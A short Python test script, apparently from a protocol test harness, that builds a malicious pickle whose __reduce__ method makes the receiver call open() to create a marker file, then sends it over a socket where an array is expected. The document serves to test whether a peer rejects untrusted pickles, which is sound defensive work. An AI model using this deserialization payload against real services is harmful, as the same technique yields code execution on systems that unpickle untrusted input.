"""Send a pickle where an array is expected.

Ends: protocol
"""

from __future__ import annotations

import pickle
import struct

import harness
from facts import SHARED
from honest import run


class Payload:
    def __reduce__(self):
        return open, (f"{SHARED}/unpickled", "w")


def reply(model, part):
    raw = pickle.dumps(Payload())
    harness._link()._socket.sendall(
        struct.pack("<BBBBI", 20, 1, 0, 0, 56 + len(raw)) + raw.ljust(56 + len(raw))
    )


run(reply=reply)
